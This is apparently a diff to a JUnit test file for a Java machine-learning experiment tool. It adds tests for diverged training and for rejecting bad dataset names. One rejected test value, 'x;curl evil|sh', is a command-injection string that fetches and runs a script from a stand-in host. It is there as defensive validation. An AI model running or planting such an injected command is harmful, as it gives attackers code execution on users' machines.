@@ -1,15 +1,19 @@
 package inkling.web;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
 import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
 
 import inkling.data.Dataset;
 import inkling.data.ImageShape;
 import inkling.data.generated.GeneratedDigits;
 import inkling.train.Report;
+import inkling.train.TrainingDivergedException;
 import java.util.Arrays;
 import java.util.List;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class ExperimentTest {
     private static final int MUCH_TIME = 1_000_000;
@@ -79,6 +83,29 @@ class ExperimentTest {
             experiment.rewind();
             assertThat(experiment.command()).contains("--iterations 0");
         }
+    }
+
+    @Test
+    void aTrainingThatDivergedHasNoCommandUntilItIsRewound() {
+        try (var experiment = experiment()) {
+            experiment.learningRate(1e30f);
+            assertThatExceptionOfType(TrainingDivergedException.class)
+                    .isThrownBy(() -> experiment.train(1000, MUCH_TIME));
+            assertThat(experiment.command()).isNull();
+            assertThat(experiment.whyNoCommand()).startsWith("The loss is no longer a number");
+            experiment.rewind();
+            assertThat(experiment.command()).contains("--iterations 0");
+        }
+    }
+
+    /** What stands in an address is printed for people to copy. */
+    @ParameterizedTest
+    @ValueSource(strings = {"fashion-mnist", "x;curl evil|sh", "", "MNIST"})
+    void dataThatAreNoneAreRefused(String data) {
+        assertThatIllegalArgumentException()
+                .isThrownBy(() -> new Settings(
+                        data, 100, 1, 10, List.of(784, 10), "relu", "he", "adam", 0.01f, 10, 2, 0, 0, "unit"))
+                .withMessage("data \"" + data + "\": expected generated, mnist or own");
     }
 
     @Test
